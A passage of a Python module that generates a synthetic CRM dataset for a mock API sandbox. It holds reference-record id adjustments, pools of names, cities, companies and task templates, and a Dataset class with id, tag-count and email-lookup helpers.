    ["tasks", {"id": 6, "name": "New CRM Task", "related_resource": {"id": 1, "type": "project"}, "assignee_id": 2, "due_date": 1516905000, "reminder_date": null, "completed_date": null, "priority": "High", "status": "Open", "details": null, "tags": ["tag1"], "custom_fields": [{"custom_field_definition_id": 6, "value": 1515744000}, {"custom_field_definition_id": 12, "value": [8]}, {"custom_field_definition_id": 8, "value": null}, {"custom_field_definition_id": 11, "value": null}, {"custom_field_definition_id": 9, "value": null}, {"custom_field_definition_id": 7, "value": false}, {"custom_field_definition_id": 3, "value": null}, {"custom_field_definition_id": 4, "value": null}, {"custom_field_definition_id": 10, "value": null}, {"custom_field_definition_id": 5, "value": null}], "date_created": 1516818999, "date_modified": 1516819000, "custom_activity_type_id": 6}],
    ["activities", {"id": 3064242278, "parent": {"id": 27140359, "type": "person"}, "type": {"id": 0, "category": "user"}, "user_id": 137658, "details": "This is the updated description of this note", "activity_date": 1496772351, "old_value": null, "new_value": null, "date_created": 1496772355, "date_modified": 1496772355}]
]'''

# Changes to the verbatim examples, all so that their references resolve and
# agree (the reference mixes two id families: the "sample" records with small
# ids use look-up ids that the reference's own look-up lists do not contain).
# (entity, id, key, reference value, value used, reason)
ADJUSTMENTS = (
    ("people", 3, "contact_type_id", 8, 451493, "contact type 8 is not in /contact_types"),
    ("people", 4, "contact_type_id", 5, 451491, "contact type 5 is not in /contact_types"),
    ("people", 4, "assignee_id", 2, JOHN_DOE_ID, "user 2 is not in /users"),
    ("people", 5, "contact_type_id", 5, 451491, "contact type 5 is not in /contact_types"),
    ("people", 6, "contact_type_id", 5, 451491, "contact type 5 is not in /contact_types"),
    ("people", 7, "contact_type_id", 8, 451493, "contact type 8 is not in /contact_types"),
    ("companies", 9607580, "primary_contact_id", 27140359, 27140362,
     "27140359 works for Noemail; the search page gives 27140362 for this company"),
    ("companies", 2, "contact_type_id", 8, 451493, "contact type 8 is not in /contact_types"),
    ("companies", 2, "primary_contact_id", 27140367, 3, "27140367 does not exist; Jon Lee (3) is its CEO"),
    ("companies", 3, "contact_type_id", 5, 451491, "contact type 5 is not in /contact_types"),
    ("companies", 3, "primary_contact_id", 27140356, 5, "27140356 does not exist; Michael Scott (5) works there"),
    ("companies", 4, "contact_type_id", 6, 451490, "contact type 6 is not in /contact_types"),
    ("companies", 4, "assignee_id", 2, JOHN_DOE_ID, "user 2 is not in /users"),
    ("companies", 4, "primary_contact_id", 27140359, 6, "27140359 works for Noemail; Jo Bennett (6) works there"),
    ("opportunities", 3, "customer_source_id", 5, 331241, "source 5 is not in /customer_sources"),
    ("opportunities", 3, "pipeline_id", 3, 213214, "pipeline 3 is not in /pipelines"),
    ("opportunities", 3, "pipeline_stage_id", 10, 987790, "stage 10 is not in /pipelines (5% stage)"),
    ("opportunities", 3, "primary_contact_id", 3, 5, "person 3 works for company 2, not 3"),
    ("opportunities", 4, "assignee_id", 2, JOHN_DOE_ID, "user 2 is not in /users"),
    ("opportunities", 4, "customer_source_id", 6, 331242, "source 6 is not in /customer_sources"),
    ("opportunities", 4, "pipeline_id", 3, 213214, "pipeline 3 is not in /pipelines"),
    ("opportunities", 4, "pipeline_stage_id", 13, 987793, "stage 13 is not in /pipelines (40% stage)"),
    ("opportunities", 5, "pipeline_id", 3, 213214, "pipeline 3 is not in /pipelines"),
    ("opportunities", 5, "pipeline_stage_id", 11, 987791, "stage 11 is not in /pipelines (10% stage)"),
    ("opportunities", 5, "primary_contact_id", 3, 6, "person 3 works for company 2, not 4"),
    ("opportunities", 6, "pipeline_id", 3, 213214, "pipeline 3 is not in /pipelines"),
    ("opportunities", 6, "pipeline_stage_id", 10, 987790, "stage 10 is not in /pipelines (5% stage)"),
    ("opportunities", 32, "assignee_id", 6, 1105608, "user 6 is not in /users"),
    ("opportunities", 32, "customer_source_id", 16, 331244, "source 16 is not in /customer_sources"),
    ("opportunities", 32, "pipeline_id", 6, 213217, "pipeline 6 is not in /pipelines"),
    ("opportunities", 32, "pipeline_stage_id", 15, 987809, "stage 15 is not in /pipelines (65% stage)"),
    ("leads", 5, "customer_source_id", 4, 331240, "source 4 is not in /customer_sources"),
    ("leads", 5, "status_id", 7, 208233, "status 7 is not in /lead_statuses (Unqualified)"),
    ("leads", 6, "assignee_id", 2, JOHN_DOE_ID, "user 2 is not in /users"),
    ("leads", 6, "customer_source_id", 4, 331240, "source 4 is not in /customer_sources"),
    ("leads", 6, "status_id", 5, 208231, "status 5 is not in /lead_statuses (New)"),
    ("leads", 12, "assignee_id", 2, JOHN_DOE_ID, "user 2 is not in /users"),
    ("leads", 12, "status_id", 5, 208231, "status 5 is not in /lead_statuses (New)"),
    ("projects", 1, "assignee_id", 2, JOHN_DOE_ID, "user 2 is not in /users"),
    ("projects", 2, "assignee_id", 2, JOHN_DOE_ID, "user 2 is not in /users"),
    ("tasks", 1, "custom_activity_type_id", 6, TODO_TYPE_ID, "activity type 6 is not in /activity_types"),
    ("tasks", 2, "custom_activity_type_id", 6, TODO_TYPE_ID, "activity type 6 is not in /activity_types"),
    ("tasks", 3, "custom_activity_type_id", 6, TODO_TYPE_ID, "activity type 6 is not in /activity_types"),
    ("tasks", 6, "custom_activity_type_id", 6, TODO_TYPE_ID, "activity type 6 is not in /activity_types"),
    ("tasks", 6, "assignee_id", 2, JOHN_DOE_ID, "user 2 is not in /users"),
)


def reference_examples():
    """[(entity, record)] verbatim from the reference ("activities" included)."""
    return [(e, r) for e, r in json.loads(_REFERENCE_EXAMPLES_JSON)]


EXAMPLE_IDS = {}
for _e, _r in reference_examples():
    EXAMPLE_IDS.setdefault(_e, []).append(_r["id"])
del _e, _r

# Records that the reference examples point at but does not show: created so
# that every reference resolves (entity -> ids).
REFERENCE_CREATED_IDS = {
    "people": [27140361, 27140362, 27140363, 27140364, 25],
    "companies": [27],
    "leads": [11393303],
}

# --------------------------------------------------------------------------
# Word pools (plain text: Latin letters, a few precomposed accents).
# --------------------------------------------------------------------------

FIRST_NAMES = (
    "James", "Mary", "Robert", "Patricia", "John", "Jennifer", "Michael", "Linda",
    "David", "Elizabeth", "William", "Barbara", "Richard", "Susan", "Joseph",
    "Jessica", "Thomas", "Sarah", "Charles", "Karen", "Daniel", "Lisa", "Matthew",
    "Nancy", "Anthony", "Betty", "Mark", "Sandra", "Steven", "Ashley", "Andrew",
    "Emily", "Joshua", "Michelle", "Kevin", "Amanda", "Brian", "Melissa", "Ryan",
    "Stephanie", "Jacob", "Rebecca", "Nicholas", "Laura", "Eric", "Hannah",
    "Jonathan", "Olivia", "Samuel", "Emma", "Benjamin", "Sophia", "Lucas", "Mia",
    "Noah", "Ava", "Ethan", "Isabella", "Oliver", "Charlotte", "Liam", "Amelia",
    "Mateo", "Valentina", "Santiago", "Camila", "Diego", "Luc\u00eda", "Javier",
    "Sof\u00eda", "Jos\u00e9", "Mar\u00eda", "Andr\u00e9", "In\u00eas", "Jo\u00e3o",
    "Beatriz", "Fran\u00e7ois", "Am\u00e9lie", "Pierre", "Chlo\u00e9", "Lukas",
    "Lena", "J\u00fcrgen", "Anna", "Felix", "Marie", "S\u00f8ren", "Ingrid",
    "Bj\u00f6rn", "Astrid", "Mikko", "Aino", "\u0141ukasz", "Zofia", "Jan",
    "Petra", "Giulia", "Marco", "Francesca", "Alessandro", "Priya", "Arjun",
    "Ananya", "Rahul", "Wei", "Mei", "Hiroshi", "Yuki", "Min-jun", "Seo-yeon",
    "Kwame", "Amara", "Chinedu", "Ngozi", "Omar", "Layla", "Yusuf", "Fatima",
    "Dmitri", "Olga", "Ivan", "Katarina", "Siobh\u00e1n", "Sean", "Aoife", "Cormac",
    "Tane", "Aroha", "Kai", "Leilani", "Zo\u00eb", "Ren\u00e9e", "No\u00ebl", "Ana",
)
LAST_NAMES = (
    "Smith", "Johnson", "Williams", "Brown", "Jones", "Garcia", "Miller", "Davis",
    "Rodriguez", "Martinez", "Hernandez", "Lopez", "Gonzalez", "Wilson", "Anderson",
    "Thomas", "Taylor", "Moore", "Jackson", "Martin", "Lee", "Perez", "Thompson",
    "White", "Harris", "Sanchez", "Clark", "Ramirez", "Lewis", "Robinson", "Walker",
    "Young", "Allen", "King", "Wright", "Scott", "Torres", "Nguyen", "Hill",
    "Flores", "Green", "Adams", "Nelson", "Baker", "Hall", "Rivera", "Campbell",
    "Mitchell", "Carter", "Roberts", "O'Brien", "O'Neill", "McCarthy", "MacDonald",
    "van der Berg", "de Vries", "Jansen", "M\u00fcller", "Schmidt", "Schneider",
    "Fischer", "Weber", "Wagner", "Becker", "Dubois", "Lef\u00e8vre", "Moreau",
    "Laurent", "Girard", "Rossi", "Russo", "Ferrari", "Esposito", "Bianchi",
    "Fern\u00e1ndez", "Gonz\u00e1lez", "Rodr\u00edguez", "Su\u00e1rez", "Silva", "Santos",
    "Oliveira", "Pereira", "Costa", "Nowak", "Kowalski", "Wi\u015bniewski", "Novak",
    "Horvat", "Johansson", "Andersson", "Nilsson", "Hansen", "Jensen", "Virtanen",
    "Korhonen", "Patel", "Sharma", "Gupta", "Singh", "Iyer", "Chen", "Wang", "Li",
    "Zhang", "Tanaka", "Sato", "Suzuki", "Kim", "Park", "Choi", "Okafor", "Mensah",
    "Adeyemi", "Haddad", "Khalil", "Rahman", "Ivanov", "Petrov", "Smirnov",
    "Kuznetsova", "Murphy", "Kelly", "Byrne", "Walsh", "Ng", "Tan", "Wong",
    "Ortega", "Castillo", "Vargas", "Mendoza", "Herrera", "Aguilar", "Cruz",
    "Nakamura", "Kobayashi", "Yamamoto", "Hughes", "Price", "Bennett", "Foster",
)
MIDDLE_NAMES = ("A.", "B.", "C.", "D.", "E.", "J.", "K.", "L.", "M.", "R.", "S.", "T.",
                "Anne", "Marie", "James", "Lee", "Grace", "Paul", "Louise", "Jos\u00e9")
PREFIXES = ("Dr.", "Mr.", "Ms.", "Mrs.", "Prof.")
SUFFIXES = ("Jr.", "Sr.", "II", "III", "PhD", "MD", "CPA")
TITLES = (
    "CEO", "CFO", "COO", "CTO", "Founder", "Co-Founder", "President",
    "VP of Sales", "VP of Marketing", "VP of Operations", "VP Engineering",
    "Head of Procurement", "Procurement Manager", "Purchasing Agent",
    "Office Manager", "IT Director", "IT Manager", "Systems Administrator",
    "Sales Director", "Account Executive", "Sales Operations Manager",
    "Marketing Manager", "Brand Manager", "Product Manager", "Project Manager",
    "Operations Manager", "Finance Manager", "Controller", "Accountant",
    "HR Director", "Talent Acquisition Lead", "Customer Success Manager",
    "Support Lead", "Legal Counsel", "General Counsel", "Chief of Staff",
    "Executive Assistant", "Facilities Manager", "Business Development",
    "Partnerships Manager", "Regional Manager", "Store Manager",
    "Data Analyst", "Software Engineer", "Solutions Architect",
    "Director of Engineering", "Principal Consultant", "Managing Partner",
    "Owner", "Consultant",
)
CO_ADJ = (
    "Blue", "Red", "Green", "Silver", "Golden", "Northern", "Southern", "Eastern",
    "Western", "Pacific", "Atlantic", "Summit", "Pioneer", "Frontier", "Liberty",
    "Granite", "Cedar", "Oak", "Maple", "Willow", "Iron", "Copper", "Bright",
    "Swift", "Clear", "True", "Prime", "Apex", "Vertex", "Nova", "Lunar", "Solar",
    "Stellar", "Quantum", "Rapid", "Urban", "Coastal", "Highland", "Lakeside",
    "Riverside", "Harbor", "Meridian", "Evergreen", "Crimson", "Azure", "Amber",
    "Ivory", "Obsidian", "Sapphire", "Emerald", "Cobalt", "Falcon", "Eagle", "Fox",
    "Bear", "Wolf", "Kestrel", "Heron", "Orca", "Lynx", "Bison", "Sparrow",
    "Nordic", "Alpine", "Sierra", "Delta", "Canyon", "Prairie", "Tundra", "Mesa",
    "Beacon", "Anchor", "Compass", "Keystone", "Cornerstone", "Landmark",
    "Horizon", "Zenith", "Polar", "Tidal", "Ember", "Aurora", "Cascade", "Ridge",
    "Brook", "Stone", "Pine", "Birch", "Aspen", "Juniper", "Sage", "Linden",
    "Hawthorne", "Elm", "Rowan", "Hazel", "Laurel", "Thistle", "Clover", "Fern",
)
CO_NOUN = (
    "Harbor", "Bridge", "Peak", "Field", "Works", "Labs", "Point", "Gate", "Way",
    "Path", "Line", "Wave", "Light", "Stream", "Rock", "Hill", "Valley", "Forge",
    "Mill", "Yard", "Crest", "Port", "Haven", "Grove", "Spring", "Shore", "Wind",
    "Star", "Sky", "Cloud", "Leaf", "Root", "Seed", "Tree", "Wood", "Bay", "Cove",
    "Point", "Mark", "Base", "Core", "Hub", "Loop", "Link", "Net", "Grid", "Dock",
    "Tower", "Hall", "House", "Square", "Circle", "Arc", "Beam", "Spark", "Flare",
    "Pulse", "Signal", "Vector", "Matrix", "Logic", "Mind", "Craft", "Made",
    "Source", "Scale", "Shift", "Stack", "Sphere", "Field", "Ledger", "Anvil",
    "Lantern", "Quill", "Compass", "Harvest", "Orchard", "Meadow", "Ranch",
    "Summit", "Rise", "Range", "Run", "Falls", "Springs", "Heights", "Park",
    "Crossing", "Landing", "Station", "Depot", "Foundry", "Garden", "Point",
    "Ridge", "Trail", "Brook", "Creek",
)
CO_SECTOR = (
    "Logistics", "Analytics", "Health", "Partners", "Capital", "Consulting",
    "Systems", "Software", "Foods", "Energy", "Solar", "Robotics", "Media",
    "Studios", "Manufacturing", "Supply", "Builders", "Realty", "Legal",
    "Insurance", "Pharma", "Biotech", "Apparel", "Furniture", "Paper",
    "Printing", "Networks", "Security", "Telecom", "Education", "Dental",
    "Veterinary", "Engineering", "Architects", "Hospitality", "Travel",
    "Outfitters", "Brewing", "Coffee", "Bakery",
)
PRODUCTS = ("Analytics Suite", "Integration Hub", "Mobile App", "API Access",
            "Premium Support", "Onboarding Package", "Training Days",
            "Data Warehouse", "Reporting Add-on", "Security Pack", "SSO Add-on",
            "Copier Fleet", "Office Chairs", "Keyboards", "Paper Supply Contract",
            "Managed Print", "Consulting Block", "Field Service Plan",
            "Enterprise License", "Team Plan")

# (city, state, country code, [postal codes], phone prefix, legal suffixes)
CITIES = (
    ("San Francisco", "CA", "US", ("94105", "94107", "94110", "94133"), "+1 415-555-", (" Inc.", " LLC", "")),
    ("New York", "NY", "US", ("10001", "10013", "10018", "10036"), "+1 212-555-", (" Inc.", " LLC", " Corp.")),
    ("Austin", "TX", "US", ("78701", "78704", "78745"), "(512) 555-", (" LLC", " Inc.")),
    ("Chicago", "IL", "US", ("60601", "60607", "60614"), "312-555-", (" Inc.", " Co.")),
    ("Seattle", "WA", "US", ("98101", "98104", "98109"), "206-555-", (" Inc.", "")),
    ("Boston", "MA", "US", ("02108", "02110", "02116"), "617-555-", (" LLC", " Inc.")),
    ("Denver", "CO", "US", ("80202", "80205", "80211"), "303-555-", (" LLC", "")),
    ("Atlanta", "GA", "US", ("30303", "30308", "30318"), "404-555-", (" Inc.", " LLC")),
    ("Savannah", "GA", "US", ("31401", "31405", "31410"), "912-555-", (" LLC", "")),
    ("Scranton", "PA", "US", ("18501", "18503", "18510"), "570-555-", (" Inc.", " Co.")),
    ("Philadelphia", "PA", "US", ("19103", "19107", "19135"), "215-555-", (" Inc.", "")),
    ("Miami", "FL", "US", ("33130", "33131", "33139"), "305-555-", (" LLC", " Inc.")),
    ("Portland", "OR", "US", ("97201", "97205", "97209"), "503-555-", (" LLC", "")),
    ("Minneapolis", "MN", "US", ("55401", "55403", "55414"), "612-555-", (" Inc.", "")),
    ("Nashville", "TN", "US", ("37201", "37203", "37206"), "615-555-", (" LLC", "")),
    ("Phoenix", "AZ", "US", ("85003", "85004", "85012"), "602-555-", (" Inc.", "")),
    ("Salt Lake City", "UT", "US", ("84101", "84111"), "801-555-", (" LLC", "")),
    ("Honolulu", "HI", "US", ("96813", "96815"), "808-555-", (" LLC", "")),
    ("Toronto", "ON", "CA", ("M5V 2T6", "M5H 2N2", "M4W 1A8"), "+1 416-555-", (" Inc.", " Ltd.", "")),
    ("Vancouver", "BC", "CA", ("V6B 1A1", "V6C 3L6", "V5K 0A1"), "+1 604-555-", (" Ltd.", " Inc.")),
    ("Montr\u00e9al", "QC", "CA", ("H2Y 1C6", "H3B 4W8"), "+1 514-555-", (" Inc.", " Lt\u00e9e")),
    ("Calgary", "AB", "CA", ("T2P 1J9", "T2G 0P6"), "+1 403-555-", (" Ltd.", "")),
    ("Mexico City", "CDMX", "MX", ("06600", "11560", "03100"), "+52 55 5555 ", (" S.A. de C.V.", "")),
    ("Monterrey", "NL", "MX", ("64000", "66220"), "+52 81 5555 ", (" S.A. de C.V.", "")),
    ("London", "", "GB", ("EC1A 1BB", "SW1A 2AA", "E1 6AN", "N1 9GU"), "+44 20 7946 ", (" Ltd", " PLC", " LLP")),
    ("Manchester", "", "GB", ("M1 1AE", "M2 4WU", "M4 5JD"), "+44 161 496 ", (" Ltd", "")),
    ("Edinburgh", "", "GB", ("EH1 1YZ", "EH2 2ER", "EH8 8AQ"), "+44 131 496 ", (" Ltd", "")),
    ("Dublin", "", "IE", ("D02 X285", "D04 C932", "D08 VF8H"), "+353 1 555 ", (" Ltd", " DAC")),
    ("Berlin", "", "DE", ("10115", "10178", "10999"), "+49 30 5555", (" GmbH", " AG", " UG")),
    ("M\u00fcnchen", "BY", "DE", ("80331", "80469", "80801"), "+49 89 5555", (" GmbH", " AG")),
    ("Hamburg", "", "DE", ("20095", "20457", "22767"), "+49 40 5555", (" GmbH", " KG")),
    ("Paris", "", "FR", ("75001", "75008", "75011", "75015"), "+33 1 55 55 ", (" SAS", " SARL", " SA")),
    ("Lyon", "", "FR", ("69001", "69002", "69007"), "+33 4 55 55 ", (" SAS", " SARL")),
    ("Madrid", "", "ES", ("28001", "28013", "28045"), "+34 91 555 ", (" S.L.", " S.A.")),
    ("Barcelona", "", "ES", ("08001", "08008", "08018"), "+34 93 555 ", (" S.L.", "")),
    ("Lisboa", "", "PT", ("1100-148", "1250-096", "1990-094"), "+351 21 555 ", (" Lda.", " S.A.")),
    ("Milano", "MI", "IT", ("20121", "20124", "20144"), "+39 02 5555 ", (" S.r.l.", " S.p.A.")),
    ("Roma", "RM", "IT", ("00184", "00186", "00197"), "+39 06 5555 ", (" S.r.l.", "")),
    ("Amsterdam", "", "NL", ("1012 AB", "1017 CT", "1071 DJ"), "+31 20 555 ", (" B.V.", " N.V.")),
    ("Brussels", "", "BE", ("1000", "1040", "1050"), "+32 2 555 ", (" SA", " BV")),
    ("Z\u00fcrich", "ZH", "CH", ("8001", "8004", "8050"), "+41 44 555 ", (" AG", " GmbH")),
    ("Wien", "", "AT", ("1010", "1030", "1070"), "+43 1 555 ", (" GmbH", "")),
    ("Stockholm", "", "SE", ("111 22", "114 55", "118 46"), "+46 8 555 ", (" AB", "")),
    ("K\u00f8benhavn", "", "DK", ("1050", "1260", "2100"), "+45 55 55 ", (" ApS", " A/S")),
    ("Oslo", "", "NO", ("0150", "0250", "0484"), "+47 55 55 ", (" AS", "")),
    ("Helsinki", "", "FI", ("00100", "00130", "00180"), "+358 9 555 ", (" Oy", "")),
    ("Warszawa", "", "PL", ("00-001", "00-950", "02-677"), "+48 22 555 ", (" sp. z o.o.", " S.A.")),
    ("Praha", "", "CZ", ("110 00", "120 00", "170 00"), "+420 2 555 ", (" s.r.o.", " a.s.")),
    ("S\u00e3o Paulo", "SP", "BR", ("01310-100", "04538-133", "05425-070"), "+55 11 5555-", (" Ltda.", " S.A.")),
    ("Rio de Janeiro", "RJ", "BR", ("20040-002", "22250-040"), "+55 21 5555-", (" Ltda.", "")),
    ("Buenos Aires", "CABA", "AR", ("C1002AAB", "C1425BHN"), "+54 11 5555-", (" S.A.", " S.R.L.")),
    ("Santiago", "RM", "CL", ("8320000", "7550000"), "+56 2 2555 ", (" SpA", " S.A.")),
    ("Bogot\u00e1", "DC", "CO", ("110111", "110221"), "+57 601 555 ", (" S.A.S.", "")),
    ("Sydney", "NSW", "AU", ("2000", "2010", "2060"), "+61 2 5550 ", (" Pty Ltd", "")),
    ("Melbourne", "VIC", "AU", ("3000", "3121", "3130"), "+61 3 5550 ", (" Pty Ltd", "")),
    ("Auckland", "", "NZ", ("1010", "1021", "1051"), "+64 9 555 ", (" Limited", " Ltd")),
    ("Singapore", "", "SG", ("018989", "048624", "238801"), "+65 6555 ", (" Pte. Ltd.", "")),
    ("Tokyo", "Tokyo", "JP", ("100-0005", "150-0043", "106-0032"), "+81 3-5555-", (" K.K.", " Co., Ltd.")),
    ("Osaka", "Osaka", "JP", ("530-0001", "542-0076"), "+81 6-5555-", (" K.K.", "")),
    ("Seoul", "Seoul", "KR", ("04524", "06164", "03187"), "+82 2-555-", (" Co., Ltd.", "")),
    ("Bengaluru", "KA", "IN", ("560001", "560034", "560103"), "+91 80 5555 ", (" Pvt. Ltd.", " LLP")),
    ("Mumbai", "MH", "IN", ("400001", "400051", "400093"), "+91 22 5555 ", (" Pvt. Ltd.", "")),
    ("Dubai", "", "AE", ("00000",), "+971 4 555 ", (" FZ-LLC", " LLC")),
    ("Tel Aviv", "", "IL", ("6100000", "6473424"), "+972 3-555-", (" Ltd.", "")),
    ("Cape Town", "WC", "ZA", ("8001", "8005", "7700"), "+27 21 555 ", (" (Pty) Ltd", "")),
    ("Nairobi", "", "KE", ("00100", "00200"), "+254 20 555 ", (" Ltd", "")),
    ("Lagos", "LA", "NG", ("100001", "101233"), "+234 1 555 ", (" Ltd", " PLC")),
)
# Weight of each city (index-aligned): more US/GB/DE data, a long tail.
_CITY_WEIGHTS = tuple(6 if c[2] == "US" else 3 if c[2] in ("GB", "CA", "DE", "FR") else 2
                      for c in CITIES)
STREETS = {  # country code -> street names (default: "")
    "": ("Main Street", "Market Street", "Mission Street", "Howard Street", "Broadway",
         "5th Avenue", "Park Avenue", "Washington Ave", "Elm Street", "Oak Lane",
         "Cedar Road", "Harbor Blvd", "Industrial Way", "Commerce Drive",
         "Innovation Way", "Lake Shore Drive", "Sunset Blvd", "Pine Street"),
    "GB": ("High Street", "Station Road", "King Street", "Queen Street", "Church Road",
           "Victoria Road", "Mill Lane", "Park Road"),
    "IE": ("Grafton Street", "O'Connell Street", "Baggot Street", "Dame Street"),
    "DE": ("Hauptstra\u00dfe", "Friedrichstra\u00dfe", "Bahnhofstra\u00dfe", "Gartenweg",
           "Schillerstra\u00dfe", "Lindenallee"),
    "AT": ("Mariahilfer Stra\u00dfe", "Hauptplatz", "Ringstra\u00dfe"),
    "CH": ("Bahnhofstrasse", "Limmatquai", "Seefeldstrasse"),
    "FR": ("Rue de Rivoli", "Avenue des Champs-\u00c9lys\u00e9es", "Rue de la Paix",
           "Boulevard Haussmann", "Rue du Faubourg Saint-Honor\u00e9"),
    "BE": ("Rue Neuve", "Avenue Louise", "Boulevard Anspach"),
    "ES": ("Calle Mayor", "Gran V\u00eda", "Paseo de la Castellana", "Calle de Alcal\u00e1"),
    "MX": ("Avenida Reforma", "Calle Madero", "Avenida Insurgentes Sur"),
    "AR": ("Avenida Corrientes", "Calle Florida", "Avenida de Mayo"),
    "CL": ("Avenida Providencia", "Calle Hu\u00e9rfanos", "Avenida Apoquindo"),
    "CO": ("Carrera S\u00e9ptima", "Calle 93", "Avenida El Dorado"),
    "PT": ("Rua Augusta", "Avenida da Liberdade", "Rua do Ouro"),
    "BR": ("Avenida Paulista", "Rua Oscar Freire", "Avenida Atl\u00e2ntica"),
    "IT": ("Via Roma", "Corso Buenos Aires", "Via Garibaldi", "Via Montenapoleone"),
    "NL": ("Kalverstraat", "Damrak", "Keizersgracht", "Prinsengracht"),
    "SE": ("Drottninggatan", "Kungsgatan", "Sveav\u00e4gen"),
    "DK": ("Str\u00f8get", "N\u00f8rregade", "Vesterbrogade"),
    "NO": ("Karl Johans gate", "Storgata", "Bogstadveien"),
    "FI": ("Mannerheimintie", "Aleksanterinkatu", "Esplanadi"),
    "PL": ("Marsza\u0142kowska", "Nowy \u015awiat", "Aleje Jerozolimskie"),
    "CZ": ("V\u00e1clavsk\u00e9 n\u00e1m\u011bst\u00ed", "Na P\u0159\u00edkop\u011b", "Karlova"),
    "AU": ("George Street", "Collins Street", "Pitt Street", "Bourke Street"),
    "NZ": ("Queen Street", "Ponsonby Road", "Karangahape Road"),
    "SG": ("Orchard Road", "Raffles Place", "Robinson Road"),
    "JP": ("Chuo-dori", "Omotesando", "Meiji-dori", "Midosuji"),
    "KR": ("Teheran-ro", "Sejong-daero", "Gangnam-daero"),
    "IN": ("MG Road", "Brigade Road", "Linking Road", "Residency Road"),
    "AE": ("Sheikh Zayed Road", "Al Wasl Road", "Jumeirah Beach Road"),
    "IL": ("Rothschild Boulevard", "Dizengoff Street", "Allenby Street"),
    "ZA": ("Long Street", "Bree Street", "Kloof Street"),
    "KE": ("Kenyatta Avenue", "Moi Avenue", "Ngong Road"),
    "NG": ("Broad Street", "Awolowo Road", "Adeola Odeku Street"),
}
PERSONAL_DOMAINS = ("gmail.com", "outlook.com", "yahoo.com", "icloud.com",
                    "proton.me", "hey.com", "fastmail.com", "gmx.de", "orange.fr")
CURRENCIES = (("USD", 1.0), ("USD", 1.0), ("USD", 1.0), ("USD", 1.0), ("EUR", 1.08),
              ("GBP", 1.27), ("CAD", 0.73), ("AUD", 0.66))
TASK_TEMPLATES = (
    "Follow up with {first}", "Send proposal to {co}", "Call {first} about renewal",
    "Schedule demo for {co}", "Prepare QBR deck for {co}", "Email pricing to {first}",
    "Review contract redlines ({co})", "Book onsite visit at {co}",
    "Send case study to {first}", "Confirm budget with {first}",
    "Update opportunity notes", "Log call summary", "Check in after onboarding",
    "Collect W-9 from {co}", "Intro {first} to solutions engineer",
    "Send thank-you note to {first}", "Chase signature from {co}",
    "Prepare security questionnaire", "Plan kickoff with {co}", "Research {co} org chart",
)
PROJECT_TEMPLATES = (
    "Onboarding - {co}", "Implementation: {co}", "{co} data migration",
    "Q{q} pipeline review", "Website redesign", "Partner portal launch",
    "{co} pilot rollout", "CRM cleanup {year}", "Trade show {year} prep",
    "Customer advisory board", "Pricing page refresh", "{co} renewal playbook",
    "Sales enablement kit", "Support SLA review ({co})", "Territory planning {year}",
)
OPP_TEMPLATES = {
    213214: ("{co} - {product}", "{co}: {qty} seats", "{product} for {co}",
             "{co} new business", "{qty} x {product} ({co})"),
    213215: ("{co} co-marketing", "{co} referral program", "{co} channel deal",
             "Joint webinar with {co}"),
    213216: ("{co} renewal FY{year}", "{co} - renewal + {product}", "{co} multi-year renewal"),
    213217: ("{co} reseller agreement", "{co} technology partnership",
             "{co} integration partnership", "{co} OEM discussion"),
}
_NOTE_SNIPPETS = (
    "Left a voicemail, will try again Thursday.",
    "Spoke with {first} - they are comparing us with two other vendors.",
    "Budget approved for next quarter; needs sign-off from finance.",
    "Sent the updated quote (v3) with the multi-year discount.",
    "Great call. {first} wants a demo for the wider team next week.",
    "Procurement asked for our SOC 2 report and insurance certificate.",
    "No answer. Emailed a recap instead.",
    "Met at the booth; interested in the reporting add-on.",
    "Discussed rollout timeline: pilot in one region first.",
    "They churned from a competitor last year because of support response times.",
)


# --------------------------------------------------------------------------
# Dataset
# --------------------------------------------------------------------------

class Dataset:
    """Everything the sandbox serves; see the module docstring."""

    def __init__(self):
        self.seed = None
        self.hostile = False
        self.account = {}
        self.me = {}
        self.users = []
        self.user_details = {}
        self.contact_types = []
        self.customer_sources = []
        self.lead_statuses = []
        self.loss_reasons = []
        self.pipelines = []
        self.pipeline_stages = []
        self.custom_field_definitions = []
        self.tags = []
        self.activity_types = {"user": [], "system": []}
        self.field_layouts = {}
        self.opportunity_layouts = {}
        self.records = {e: {} for e in ENTITIES}
        self.activities = {}
        self.followed = {e: [] for e in ENTITIES}
        self._counters = {}
        self._email_index = None

    def next_id(self, entity):
        """A fresh, never used id for a new record of ``entity`` (or "activities")."""
        counter = self._counters.get(entity)
        if counter is None:
            if entity == "activities":
                pool = self.activities
            elif entity in self.records:
                pool = self.records[entity]
            else:
                raise KeyError(entity)
            counter = self._counters.setdefault(
                entity, itertools.count(max(pool, default=0) + 1))
        return next(counter)

    def own(self, entity, rid):
        """Give record ``rid`` private nested containers and return it."""
        table = self.activities if entity == "activities" else self.records[entity]
        rec = copy.deepcopy(table[rid])
        table[rid] = rec
        return rec

    def tag_counts(self):
        """GET /tags body computed from the current records, sorted by name."""
        counts = {}
        for entity in ENTITIES:
            key = "count_" + entity
            for rec in self.records[entity].values():
                tags = rec.get("tags")
                if not isinstance(tags, list):
                    continue
                for tag in tags:
                    if isinstance(tag, str):
                        c = counts.get(tag)
                        if c is None:
                            c = counts[tag] = dict.fromkeys(_TAG_COUNT_KEYS, 0)
                        c[key] += 1
        out = []
        for name in sorted(counts, key=lambda s: (s.lower(), s)):
            c = counts[name]
            total = sum(c.values())
            out.append({"name": name, "count": total, "count_people": c["count_people"],
                        "count_leads": c["count_leads"],
                        "count_companies": c["count_companies"],
                        "count_opportunities": c["count_opportunities"],
                        "count_projects": c["count_projects"],
                        "count_tasks": c["count_tasks"]})
        return out

    def person_by_email(self, email):
        """Id of the person having ``email`` (case-insensitive), else None."""
        if not isinstance(email, str):
            return None
        key = email.strip().lower()
        for attempt in (0, 1):
            if self._email_index is None or attempt:
                index = {}
                for pid, rec in self.records["people"].items():
                    emails = rec.get("emails")
                    if isinstance(emails, list):
                        for e in emails:
                            if isinstance(e, dict) and isinstance(e.get("email"), str):
                                index.setdefault(e["email"].lower(), pid)
                self._email_index = index
            pid = self._email_index.get(key)
            if pid is not None:
                rec = self.records["people"].get(pid)
                emails = rec.get("emails") if rec else None
                if isinstance(emails, list) and any(
                        isinstance(e, dict) and isinstance(e.get("email"), str)
                        and e["email"].lower() == key for e in emails):
                    return pid
        return None


_TAG_COUNT_KEYS = tuple("count_" + e for e in ENTITIES)
# The reference's "Search by Followed" examples return these records.
_FOLLOWED_EXAMPLES = {"people": (4,), "leads": (6,), "opportunities": (5,), "tasks": (6,)}


def build(seed=1, records=None, hostile=False):
    """Build the dataset; see the module docstring."""
